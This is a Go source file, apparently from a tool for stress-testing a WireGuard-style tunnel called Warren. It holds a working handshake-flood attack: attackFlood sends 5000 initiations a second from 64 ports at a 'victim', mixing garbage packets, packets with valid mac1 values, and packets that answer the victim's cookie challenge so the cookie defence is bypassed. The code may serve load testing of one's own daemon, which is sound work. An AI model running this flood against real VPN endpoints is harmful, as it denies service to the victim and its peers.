package main

import (
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"math"
	"net/netip"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/crypto/blake2s"
	"golang.org/x/crypto/chacha20poly1305"

	"warren/tunnel/wireguard/protocol"
)

const (
	// Initiations a second, five times what a Warren takes before it asks for cookies.
	// More would ask how fast the machine is: what does not fit into the victim's socket
	// is lost, and so are its peers' packets.
	floodRate  = 5000
	floodLeast = 1200 // a second; less makes nobody ask for cookies
	floodPorts = 64
	macLen     = blake2s.Size128
	mac1At     = initiationLen - 2*macLen
)

// attackFlood sends initiations of four kinds, in turn: garbage with the right
// type and length; with a valid mac1, and garbage otherwise; of a stranger, which
// are right in all but that nobody knows the stranger; and those with the cookie
// that the victim gave that port. No source address is forged.
func attackFlood(victim netip.AddrPort, key protocol.PublicKey, d time.Duration) error {
	strangers := make([]*stranger, floodPorts)
	for i := range strangers {
		var err error
		if strangers[i], err = newStranger(key); err != nil {
			return err
		}
	}
	var once sync.Once
	s, err := newSources(floodPorts, victim, func(i int, b []byte) {
		once.Do(func() { fmt.Printf("the first %s came\n", strings.TrimSuffix(wgNames[wgType(b)], "s")) })
		strangers[i].take(b)
	})
	if err != nil {
		return err
	}
	began := time.Now()
	sent, err := pace(floodRate, math.MaxInt, d, func(i int) error {
		port := i / 4 % floodPorts
		err := s.send(port, strangers[port].initiation(i%4))
		if errors.Is(err, syscall.ECONNREFUSED) || errors.Is(err, syscall.ENOBUFS) {
			return nil // the victim's daemon, or the machine, cannot take it
		}
		return err
	})
	rate := float64(sent) / time.Since(began).Seconds()
	if err != nil {
		s.close()
		return err
	}
	s.finish(fmt.Sprintf("initiations from %d ports, %.0f a second for %v", floodPorts, rate, time.Since(began).Round(time.Second)))
	if rate < floodLeast {
		return fmt.Errorf("%.0f a second are no flood", rate)
	}
	return nil
}

// A stranger floods from one port. It knows the victim's public key, and the
// victim does not know its.
type stranger struct {
	mac1Key, cookieKey [blake2s.Size]byte
	template           []byte // an initiation that the protocol made
	count              uint32

	mu       sync.Mutex
	lastMAC1 [macLen]byte
	cookie   []byte
}

func newStranger(victim protocol.PublicKey) (*stranger, error) {
	p, err := protocol.New(protocol.Config{PrivateKey: protocol.NewPrivateKey()}).AddPeer(protocol.PeerConfig{
		PublicKey: victim, Endpoint: netip.MustParseAddrPort("192.0.2.1:1"),
	})
	if err != nil {
		return nil, err
	}
	now := time.Now()
	p.Initiate(now)
	msgs := p.Tick(now)
	if len(msgs) != 1 || !protocol.IsInitiation(msgs[0]) {
		return nil, errors.New("the protocol made no initiation")
	}
	return &stranger{
		mac1Key: macKey("mac1----", victim), cookieKey: macKey("cookie--", victim), template: msgs[0],
	}, nil
}

// initiation makes the next of a kind; see attackFlood.
func (s *stranger) initiation(kind int) []byte {
	b := make([]byte, initiationLen)
	copy(b, s.template)
	s.count++
	binary.LittleEndian.PutUint32(b[4:], s.count) // the sender's index is not sealed
	switch kind {
	case 0:
		rand.Read(b[4:])
		return b
	case 1:
		rand.Read(b[4:mac1At])
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.lastMAC1 = mac(s.mac1Key[:], b[:mac1At])
	copy(b[mac1At:], s.lastMAC1[:])
	if kind == 3 && s.cookie != nil {
		mac2 := mac(s.cookie, b[:mac1At+macLen])
		copy(b[mac1At+macLen:], mac2[:])
	}
	return b
}

// take keeps the cookie of an answer, if it is one for the last message. Most are
// for an earlier one.
func (s *stranger) take(b []byte) {
	if wgType(b) != wgCookie || len(b) != cookieLen {
		return
	}
	aead, err := chacha20poly1305.NewX(s.cookieKey[:])
	if err != nil {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if cookie, err := aead.Open(nil, b[8:32], b[32:], s.lastMAC1[:]); err == nil {
		s.cookie = cookie
	}
}

// macKey and mac are HASH(label || key) and MAC of the paper's section 5.4.
func macKey(label string, key protocol.PublicKey) [blake2s.Size]byte {
	return blake2s.Sum256(append([]byte(label), key[:]...))
}

func mac(key, b []byte) (sum [macLen]byte) {
	h, err := blake2s.New128(key)
	if err != nil {
		panic(err) // keys are cookies or hashes: 16 or 32 bytes
	}
	h.Write(b)
	h.Sum(sum[:0])
	return sum
}
